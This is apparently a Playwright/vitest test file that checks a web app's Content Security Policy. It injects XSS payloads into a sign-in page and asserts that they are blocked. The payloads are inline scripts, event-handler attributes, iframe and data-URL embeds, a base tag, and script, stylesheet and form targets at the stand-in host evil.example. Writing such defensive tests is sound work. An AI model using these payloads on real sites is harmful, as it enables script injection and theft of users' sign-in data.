import type { Page, Request } from 'playwright-core'
import { expect, inject, test } from 'vitest'
import { useBrowser } from './harness/visit.ts'

const { visit } = useBrowser()

const INJECTED = [
  '<script>window.pwned = "inline"</script>',
  '<script src="/injected.js"></script>',
  '<script src="https://evil.example/injected.js"></script>',
  '<script nonce="">window.pwned = "empty nonce"</script>',
  '<script type="module">window.pwned = "module"</script>',
  '<img src="x" onerror="window.pwned = \'handler\'">',
  '<svg onload="window.pwned = \'svg\'"></svg>',
  '<iframe srcdoc="<script>parent.pwned = \'frame\'</script>"></iframe>',
  '<object data="data:text/html,<script>window.pwned = 1</script>"></object>',
  '<embed src="data:text/html,<script>window.pwned = 1</script>">',
  '<base href="https://evil.example/">',
  '<link rel="stylesheet" href="https://evil.example/a.css">',
  '<style>body { display: none }</style>',
  '<form id="stolen" action="https://evil.example/"><button>x</button></form>',
  '<a id="bad-link" href="javascript:window.pwned = \'link\'">x</a>',
].join('')

/** The page as if an attacker had got markup of their own into it, at the start of its body. */
async function injectMarkup(page: Page): Promise<string[]> {
  const foreign: string[] = []
  const record = (request: Request): void => void foreign.push(request.url())
  const isForeign = (request: Request): boolean => request.url().startsWith('https://evil.example')
  page.on('requestfinished', (request) => isForeign(request) && record(request))
  page.on('requestfailed', (request) => {
    if (isForeign(request) && request.failure()?.errorText !== 'csp') record(request)
  })
  await page.route('**/injected.js', (route) =>
    route.fulfill({ contentType: 'text/javascript', body: 'window.pwned = "file"' }),
  )
  await page.route('**/sign-in', async (route) => {
    const response = await route.fetch()
    const body = (await response.text()).replace(/<body[^>]*>/, (tag) => tag + INJECTED)
    await route.fulfill({ response, body })
  })
  return foreign
}

test('markup that somebody gets into a page runs nothing, loads nothing and sends nothing', async () => {
  const { page, complaints } = await visit({ javaScriptEnabled: true })
  const foreign = await injectMarkup(page)
  await page.goto('/sign-in')
  await page.getByLabel('E-mail').waitFor()
  await page.waitForLoadState('networkidle')
  expect(await page.locator('#bad-link').count()).toBe(1)
  await page.evaluate(() => {
    document.querySelector<HTMLElement>('#bad-link')!.click()
    document.querySelector<HTMLFormElement>('#stolen')!.requestSubmit()
  })
  await page.waitForLoadState('networkidle')
  expect(page.url()).toBe(`${inject('webUrl')}/sign-in`)
  expect(await page.evaluate(() => Reflect.get(window, 'pwned') as unknown)).toBeUndefined()
  expect(await page.evaluate(() => getComputedStyle(document.body).display)).not.toBe('none')
  expect(foreign).toEqual([])
  // It was the policy that stopped each of them.
  const refusals = complaints.splice(0).join('\n')
  for (const directive of ['script-src', 'style-src', 'base-uri', 'form-action']) {
    expect(refusals).toContain(directive)
  }
})

test('a script cannot make code of text, nor markup of it', async () => {
  const { page, complaints } = await visit()
  await page.goto('/sign-in')
  const tried = await page.evaluate(() => {
    const attempt = (run: () => unknown): string => {
      try {
        run()
        return 'done'
      } catch (error) {
        return (error as Error).name
      }
    }
    const setTimeoutOfText = setTimeout as unknown as (code: string) => void
    return {
      innerHtml: attempt(() => {
        document.createElement('div').innerHTML = '<b>x</b>'
      }),
      scriptText: attempt(() => {
        document.createElement('script').text = '1'
      }),
      scriptUrl: attempt(() => {
        document.createElement('script').src = 'https://evil.example/'
      }),
      timer: attempt(() => setTimeoutOfText('window.pwned = 1')),
    }
  })
  expect(tried).toEqual({
    innerHtml: 'TypeError',
    scriptText: 'TypeError',
    scriptUrl: 'TypeError',
    timer: expect.stringMatching(/Error/),
  })
  complaints.splice(0)
})

test('nobody frames a page', async () => {
  const { page, complaints } = await visit()
  await page.route('**/frame', (route) =>
    route.fulfill({
      contentType: 'text/html',
      body: `<iframe src="${inject('webUrl')}/sign-in"></iframe>`,
    }),
  )
  await page.goto('/frame')
  await page.waitForLoadState('networkidle')
  const frame = page.frames().find((each) => each !== page.mainFrame())
  expect(await frame?.getByLabel('E-mail').count()).toBe(0)
  expect(complaints.splice(0).join()).toMatch(/frame-ancestors|X-Frame-Options/i)
})
